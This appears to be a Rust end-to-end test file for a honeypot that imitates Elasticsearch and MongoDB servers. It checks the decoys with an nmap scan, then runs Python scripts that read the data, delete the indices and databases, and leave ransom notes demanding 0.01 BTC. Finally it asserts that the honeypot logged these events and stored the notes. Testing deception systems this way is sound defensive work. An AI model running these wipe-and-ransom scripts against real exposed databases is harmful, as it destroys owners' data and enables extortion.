//! The databases of documents, searched and robbed by stock clients, and what of it lands in the store.

use e2e::grid::{DATA, grid};
use e2e::tools::must;
use serde_json::Value;

const DECKY: &str = "e2e-data";

#[test]
fn nmap_names_the_document_databases() {
    grid();
    let scan = must(&format!("nmap -Pn -sV -sC -n -p 9200,27017 {DATA}")).unwrap();
    for product in ["Elasticsearch REST API 7.10.2", "MongoDB 4.4.29"] {
        assert!(scan.contains(product), "{scan}");
    }
    assert!(!scan.contains("unrecognized"), "{scan}");
}

#[test]
fn an_attacker_reads_the_indices_and_leaves_a_note_that_is_kept_by_hash() {
    grid();
    let table = must(&format!("curl -sS 'http://{DATA}:9200/_cat/indices?v'")).unwrap();
    assert!(
        table.starts_with("health status index ") && table.contains(" customers "),
        "{table}"
    );
    let lines = format!(
        "import elasticsearch\nes = elasticsearch.Elasticsearch('http://{DATA}:9200')\n\
         assert es.info()['tagline'] == 'You Know, for Search'\n\
         print(es.search(index='orders', size=1000)['hits']['total']['value'])\n\
         es.indices.delete(index='customers')\n\
         es.index(index='read_me', body={{'message': 'marker-note-es: pay 0.01 BTC to recover your data'}})"
    );
    let orders: u64 = python("es", &lines).trim().parse().unwrap();
    assert!(orders >= 150, "{orders}");
    kept("index", "read_me", "marker-note-es");
    let gone = grid().event(DECKY, "api_write", |event| text(event, "op") == "delete_index");
    assert_eq!(text(&gone.unwrap(), "index"), "customers");
}

#[test]
fn an_attacker_reads_the_collections_and_leaves_a_note_that_is_kept_by_hash() {
    grid();
    let lines = format!(
        "import pymongo\nc = pymongo.MongoClient('{DATA}', serverSelectionTimeoutMS=5000)\n\
         names = [n for n in c.list_database_names() if n not in ('admin', 'config', 'local')]\n\
         print(c.analytics.events.count_documents({{}}), len(list(c.analytics.events.find({{'type': 'login'}}))) > 0)\n\
         for name in names: c.drop_database(name)\n\
         c.READ__ME.README.insert_one({{'content': 'marker-note-mongo: pay 0.01 BTC to recover your data'}})"
    );
    assert_eq!(python("mongo", &lines), "240 True\n");
    kept("ns", "READ__ME.README", "marker-note-mongo");
    grid()
        .event(DECKY, "client_meta", |event| text(event, "driver") == "PyMongo")
        .unwrap();
}

fn python(name: &str, lines: &str) -> String {
    let script = e2e::grid::root().join(format!("target/e2e/{name}.py"));
    std::fs::write(&script, lines).unwrap();
    must(&format!("/usr/bin/python3 -W ignore {}", script.display())).unwrap()
}

/// The note lies among the artifacts under the hash its event names.
fn kept(field: &str, place: &str, words: &str) {
    let note = grid().event(DECKY, "ransom_note", |event| {
        text(event, field) == place && text(event, "text").contains(words)
    });
    let hash = text(&note.unwrap(), "sha256");
    let kept = grid().state.join("artifacts").join(&hash[..2]).join(&hash);
    assert!(std::fs::read_to_string(kept).unwrap().contains(words));
}

fn text(event: &Value, field: &str) -> String {
    event["fields"][field].as_str().unwrap_or_default().to_owned()
}
